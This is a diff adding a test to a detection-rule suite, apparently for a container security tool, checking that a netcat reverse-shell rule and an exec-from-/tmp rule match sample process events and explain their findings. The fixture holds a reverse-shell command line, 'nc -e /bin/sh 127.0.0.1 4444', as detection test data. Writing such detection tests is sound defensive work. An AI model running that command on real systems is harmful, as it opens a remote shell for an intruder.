@@ -61,6 +61,19 @@ describe('rule files', () => {
     assert.ok(lines.some((l) => /:27 rule bad-fields: techniques\.0: an ATT&CK technique id/.test(l)), lines.join('\n'));
   });
 
+  it('explains a finding by the fields whose tests held, leaving out what sat under not', () => {
+    const { rules } = loadRules([BUILTIN_RULES]);
+    const nc = rules.find((r) => r.id === 'dockward-reverse-shell-nc')!;
+    const doc = { event: { type: ['start'] }, process: { name: 'nc', args: ['nc', '-e', '/bin/sh', '127.0.0.1', '4444'], command_line: 'nc -e /bin/sh 127.0.0.1 4444' } };
+    assert.ok(nc.matches(doc));
+    const why = nc.explain!(doc);
+    assert.deepEqual([why['event.type'], why['process.name'], why['process.args']], [['start'], ['nc'], doc.process.args]);
+    const tmp = rules.find((r) => r.id === 'dockward-exec-from-tmp')!;
+    const run = { event: { type: ['start'] }, process: { name: 'x', executable: '/tmp/x', args: ['/tmp/x'] } };
+    assert.ok(tmp.matches(run));
+    assert.ok(!('process.name' in tmp.explain!(run)), 'the shell exclusion is not an explanation');
+  });
+
   it('tells document kinds apart by dataset', () => {
     assert.equal(kindOf({ data_stream: { dataset: 'dockward.container' } }), 'log');
     assert.equal(kindOf({ data_stream: { dataset: 'dockward.config' } }), 'config');
